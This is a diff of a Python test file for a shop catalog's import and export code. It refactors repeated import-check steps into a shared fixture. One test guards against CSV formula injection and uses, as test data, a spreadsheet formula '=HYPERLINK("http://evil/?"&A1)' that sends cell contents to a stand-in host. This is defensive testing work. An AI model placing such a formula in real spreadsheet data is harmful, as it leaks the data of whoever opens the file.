@@ -37,17 +37,27 @@ def actor(db, owner):
 
 
 @pytest.fixture
-def check(db, actor, shop, tmp_path):
+def check_file(db, actor, shop):
+    """Check a file for the shop's catalog; returns the import after the check."""
+
+    def run(path) -> CatalogImport:
+        with db.transaction() as session:
+            import_id = imports.start(session, actor, uuid.UUID(shop["catalog_id"]), path.name).id
+        imports.check(db, import_id, path)
+        with db.transaction() as session:
+            return imports.get(session, actor, import_id)
+
+    return run
+
+
+@pytest.fixture
+def check(check_file, tmp_path):
     """Upload a CSV (lines joined) and check it; returns the import after the check."""
 
     def run(*lines: str, name: str = "товары.csv") -> CatalogImport:
         path = tmp_path / name
         path.write_text("\n".join(lines) + "\n", encoding="utf-8")
-        with db.transaction() as session:
-            import_id = imports.start(session, actor, uuid.UUID(shop["catalog_id"]), name).id
-        imports.check(db, import_id, path)
-        with db.transaction() as session:
-            return imports.get(session, actor, import_id)
+        return check_file(path)
 
     return run
 
@@ -206,7 +216,8 @@ def test_the_shell_imports_a_file_into_a_points_catalog(shop, tmp_path, capsys, 
 
 
 @pytest.mark.parametrize("file_format", ["xlsx", "xls", "csv"])
-def test_exporting_and_importing_the_result_changes_nothing(db, actor, shop, check, apply, catalog, tmp_path, file_format):
+def test_exporting_and_importing_the_result_changes_nothing(db, actor, shop, check, check_file, apply, catalog, tmp_path,
+                                                         file_format):
     # given a catalog with groups, several barcodes, fractional prices and every kind of VAT and unit
     apply(check(
         HEADER + ";Артикул;Весовой;В архиве;Минимальная цена",
@@ -219,12 +230,8 @@ def test_exporting_and_importing_the_result_changes_nothing(db, actor, shop, che
     path = tmp_path / f"export.{file_format}"
     with db.transaction() as session, path.open("wb") as out:
         exports.write(session, actor, uuid.UUID(shop["catalog_id"]), file_format, out)
-    with db.transaction() as session:
-        import_id = imports.start(session, actor, uuid.UUID(shop["catalog_id"]), path.name).id
-    imports.check(db, import_id, path)
+    job = check_file(path)
     # then every row is unchanged
-    with db.transaction() as session:
-        job = imports.get(session, actor, import_id)
     assert (job.state, job.new, job.changed, job.invalid, job.unchanged) == ("ready", 0, 0, 0, 3)
     assert catalog() == before
 
@@ -267,7 +274,8 @@ def test_a_group_too_deep_or_too_long_and_too_many_barcodes_are_refused(db, chec
     assert catalog()["Соль"][4] == "9" + "Г" * 127
 
 
-def test_a_csv_export_never_hands_excel_a_formula_and_reads_back_the_same(db, actor, shop, check, apply, catalog, tmp_path):
+def test_a_csv_export_never_hands_excel_a_formula_and_reads_back_the_same(db, actor, shop, check, check_file, apply, catalog,
+                                                                           tmp_path):
     # given a product whose name a cashier typed as a formula, and a code-128 barcode starting with «=»
     apply(check("Наименование;Код;Штрихкоды;Цена", '=HYPERLINK("http://evil/?"&A1);F-1;=1+2;10'))
     # and one whose name starts with a quote and a minus, as the export's guard does
@@ -282,11 +290,7 @@ def test_a_csv_export_never_hands_excel_a_formula_and_reads_back_the_same(db, ac
     # then no cell begins with a formula sign, and importing the file back changes nothing
     cells = [cell for line in path.read_text(encoding="utf-8-sig").splitlines()[1:] for cell in line.split(";")]
     assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)
-    with db.transaction() as session:
-        import_id = imports.start(session, actor, uuid.UUID(shop["catalog_id"]), path.name).id
-    imports.check(db, import_id, path)
-    with db.transaction() as session:
-        job = imports.get(session, actor, import_id)
+    job = check_file(path)
     assert (job.state, job.unchanged, job.changed, job.new) == ("ready", 2, 0, 0)
     assert catalog() == before
     # and the same CSV opened in a spreadsheet, which shows the guarding quotes, and saved as .xlsx
@@ -297,11 +301,7 @@ def test_a_csv_export_never_hands_excel_a_formula_and_reads_back_the_same(db, ac
     for number, cells in enumerate(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";")):
         sheet.write_row(number, 0, cells)
     workbook.close()
-    with db.transaction() as session:
-        import_id = imports.start(session, actor, uuid.UUID(shop["catalog_id"]), saved.name).id
-    imports.check(db, import_id, saved)
-    with db.transaction() as session:
-        job = imports.get(session, actor, import_id)
+    job = check_file(saved)
     assert (job.state, job.unchanged, job.changed, job.new) == ("ready", 2, 0, 0)
 
 
